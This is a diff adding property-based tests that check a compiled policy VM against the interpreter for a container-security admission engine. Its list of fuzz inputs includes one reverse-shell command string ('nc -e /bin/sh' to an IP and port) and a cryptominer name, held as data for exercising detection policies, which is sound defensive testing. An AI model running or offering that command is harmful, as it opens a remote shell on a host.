@@ -165,3 +165,60 @@ def test_compiled_and_interpreted_paths_agree_on_real_admission_objects() -> Non
         slow = c.evaluate("propolis/admission", text)["decision"]  # not an entry point: interpreter
         assert fast == slow
         assert isinstance(fast["allow"], bool)
+
+
+# The compiled VM and the interpreter must agree on every decision point: the VM has had
+# semantic differences (undefined under `not`, undefined assignments), so this is checked on
+# arbitrary inputs shaped like each point's input.
+from hypothesis import HealthCheck, given, settings  # noqa: E402
+from hypothesis import strategies as st  # noqa: E402
+
+_scalars = st.none() | st.booleans() | st.integers(-5, 200) | st.sampled_from(
+    ["", "latest", "nginx:1.25", "registry.propolis.internal/web:1", "critical", "high", "low", "2020-01-01T00:00:00Z",
+     "2999-01-01T00:00:00Z", "ci", "deploy", "runtime", "registry", "protect", "monitor", "discover", "bash", "sh",
+     "xmrig", "nc -e /bin/sh 1.2.3.4 4444", "pass", "fail", "NET_ADMIN", "SYS_ADMIN", "Pod", "Deployment", "CronJob"])
+_keys = st.sampled_from([
+    "request", "object", "spec", "containers", "image", "securityContext", "privileged", "findings",
+    "severity", "fix_available", "known_exploited", "config", "runs_as_root", "checkpoint", "score",
+    "namespace", "team", "now", "proc", "name", "cmdline", "container", "mode", "connection", "src", "dst",
+    "port", "results", "id", "status", "scored", "benchmark", "kind", "template", "hostNetwork", "volumes",
+    "hostPath", "capabilities", "add", "ports", "hostPort", "signed", "risk", "findings_summary",
+    "learned_rules", "image_age_days", "component_count", "attacker_tools", "setuid_files", "exceptions",
+    "digest", "repository", "tag"
+])
+_json_inputs = st.recursive(_scalars, lambda inner: st.lists(inner, max_size=3)
+                            | st.dictionaries(_keys, inner, max_size=5), max_leaves=25)
+
+_BUNDLE = DirectorySource(POLICIES).fetch()
+_POINTS = sorted(p["path"] for p in _BUNDLE.data["propolis"]["decision_points"].values())
+_DEFAULT = RegorusEngine().compile(_BUNDLE, _POINTS)
+_VM = RegorusEngine(use_vm=True).compile(_BUNDLE, _POINTS)
+
+
+def _both(compiled: Any, path: str, text: str) -> tuple[Any, Any]:
+    package, rule = path.rsplit("/", 1)
+    try:
+        entry = compiled.evaluate(path, text)
+    except EvaluationError:
+        entry = "error"
+    try:
+        whole = compiled.evaluate(package, text)  # a package path is never an entry point
+        whole = whole.get(rule, UNDEFINED) if isinstance(whole, dict) else UNDEFINED
+    except EvaluationError:
+        whole = "error"
+    return entry, whole
+
+
+@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(path=st.sampled_from(_POINTS), value=_json_inputs)
+def test_decision_points_agree_with_the_interpreter_on_every_input(path: str, value: Any) -> None:
+    entry, whole = _both(_DEFAULT, path, json.dumps(value))
+    assert entry == whole, (path, value)
+
+
+def test_the_compiled_vm_still_diverges_from_the_interpreter() -> None:
+    """Why ``use_vm`` is off by default. When a regorus upgrade makes this fail, the VM agrees
+    on this case: re-run the property test above with ``_VM`` and consider turning it on."""
+    entry, whole = _both(_VM, "propolis/checkpoints/decision", "null")
+    assert entry != whole
+    assert "<undefined>" in entry["reasons"]
